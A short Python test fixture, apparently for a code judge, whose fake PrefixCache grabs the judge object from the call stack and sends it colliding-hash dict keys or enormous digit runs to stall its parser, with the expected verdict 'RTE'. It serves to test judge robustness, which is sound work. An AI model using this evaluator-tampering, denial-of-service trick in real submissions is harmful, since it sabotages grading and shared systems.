# verdict: RTE
"""Sends replies that a careless reader takes minutes for: keys of a dict that all collide, then runs of digits."""

import sys


def host():
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["self"], frame.f_locals["number"]


class PrefixCache:
    def __init__(self, num_blocks, block_size):
        pass

    def allocate(self, tokens, lora_id=None):
        colliding = ",".join(f"[{multiple * (2**61 - 1)},0]" for multiple in range(1, 36_000))
        digits = ",".join(["9" * 1299] * 700)
        judge, number = host()
        judge.send(f'[{number},"value",{{"d":[{colliding if tokens[0] % 2 else digits}]}}]')
        return [], 0

    def free(self, block_table):
        pass
